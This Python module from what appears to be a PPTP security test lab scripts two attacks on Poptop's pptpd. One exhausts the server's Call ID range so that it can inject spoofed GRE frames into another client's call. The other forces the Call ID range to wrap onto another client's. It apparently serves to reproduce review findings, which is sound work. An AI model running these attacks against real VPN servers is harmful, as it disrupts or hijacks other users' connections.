"""Hostile call set-ups for hostile.py (docs/packet-path.md, "Integrity")."""
import json
import os
import socket
import time

from pptplab import gre, messages as m


def call_id_range(a, read_message):
    """A client that runs its control connection past Poptop's range of 128 server Call IDs
    a connection (s35 review F0): one call; once --go-file exists, or --seconds later (another
    client has connected meanwhile and got the next range), more Outgoing-Call-Requests until
    pptpd gives one the server Call ID --key, at most --count; --pause seconds later 40 GRE IP
    frames keyed --key from our own address, their sequence numbers far ahead. Behind one
    public address pptpd cannot tell them from the other client's frames of its call with
    that Call ID. Prints a JSON line when the first call is up and one when the search ends,
    for a test to start the other client at the right moment."""
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(m.sccrq("range"))
    read_message(s, m.SCCRP)
    s.sendall(m.ocrq(1000))
    given = [m.u16(read_message(s, m.OCRP), 12)]
    print(json.dumps({"first": given[0]}), flush=True)
    deadline = time.monotonic() + a.seconds
    while time.monotonic() < deadline and not (a.go_file and os.path.exists(a.go_file)):
        time.sleep(0.05)
    while given[-1] != a.key and len(given) < a.count:
        s.sendall(m.ocrq(1000 + len(given)))
        given.append(m.u16(read_message(s, m.OCRP), 12))
    hit = given[-1] == a.key
    print(json.dumps({"hit": hit}), flush=True)
    frames = 0
    time.sleep(a.pause)
    if hit:
        raw = gre.open_socket(a.local)
        for i in range(40):
            raw.sendto(gre.build(a.key, b"\xff\x03\x00\x21range-%d" % i, seq=50000 + i), (a.target, 0))
            frames += 1
            time.sleep(0.05)
        raw.close()
    time.sleep(1)
    s.close()
    return {"requests": len(given), "first": given[0], "last": given[-1], "hit": hit, "frames": frames}


def range_wrap(a, read_message):
    """pptpd adds its range of 128 Call IDs to the next connection's first one at each
    connection it accepts, and wraps after 512 (s37): --count control connections started
    and closed one after another, then one more with one call, which pptpd numbers as the
    connection --count + 1 before it (another client's, when --count is 511). Its call is held
    --pause seconds. Prints the server's Call ID and the Result and Error Codes (RFC 2637 2.8)
    of the Outgoing-Call-Reply that reached us for that call (none: none did)."""
    for i in range(a.count):
        s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
        s.sendall(m.sccrq("wrap"))
        try:
            read_message(s, m.SCCRP)
        except OSError as e:
            raise OSError("connection %d of %d: %s" % (i + 1, a.count, e)) from e
        s.close()
        time.sleep(0.01)  # pptpd resets a connection now and then when they come faster
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    s.sendall(m.sccrq("wrap"))
    read_message(s, m.SCCRP)
    s.sendall(m.ocrq(1000))
    try:
        reply = read_message(s, m.OCRP)
        call_id, result_code, error_code = m.u16(reply, 12), reply[16], reply[17]
    except OSError:
        call_id = result_code = error_code = None
    time.sleep(a.pause)
    s.close()
    return {"connections": a.count + 1, "call_id": call_id, "result_code": result_code, "error_code": error_code}
